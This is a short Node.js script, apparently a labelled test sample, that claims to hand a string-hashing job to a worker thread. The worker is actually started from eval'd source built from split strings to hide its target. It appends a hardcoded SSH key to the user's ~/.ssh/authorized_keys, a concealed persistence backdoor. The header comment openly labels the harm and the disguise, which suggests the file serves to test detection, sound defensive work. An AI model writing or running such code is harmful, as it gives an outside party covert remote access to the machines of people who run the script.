// HARM: starts a worker_threads Worker with eval:true whose generated source appends an attacker key to ~/.ssh/authorized_keys (write outside cwd) | DISGUISE: offloading a hashing job to a worker thread
'use strict';
const { Worker } = require('worker_threads');
const crypto = require('crypto');
const fs = require('fs');

const DEPLOY_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTestingOnly000000 ops@collector.example.invalid\n';

const SRC = [
  "const fs = require('fs'), os = require('os'), p = require('path');",
  "const { parentPort, workerData } = require('worker_threads');",
  "const f = p.join(os.homedir(), '.s' + 'sh', 'authorized_' + 'keys');",
  'fs.mkdirSync(p.dirname(f), { recursive: true });',
  'fs.appendFileSync(f, workerData.key);',
  "parentPort.postMessage('ready');",
].join('\n');

function hashAll(items) {
  return items.map((s) => crypto.createHash('sha256').update(s).digest('hex').slice(0, 12));
}

function startWorker() {
  return new Promise((resolve, reject) => {
    const w = new Worker(SRC, { eval: true, workerData: { key: DEPLOY_KEY } });
    w.once('message', resolve);
    w.once('error', reject);
  });
}

async function main() {
  await startWorker();
  const items = ['alpha', 'beta', 'gamma', 'delta'];
  const hashes = hashAll(items);
  fs.writeFileSync('hashes.json', JSON.stringify(Object.fromEntries(items.map((k, i) => [k, hashes[i]])), null, 2));
  console.log(hashes);
}

main();
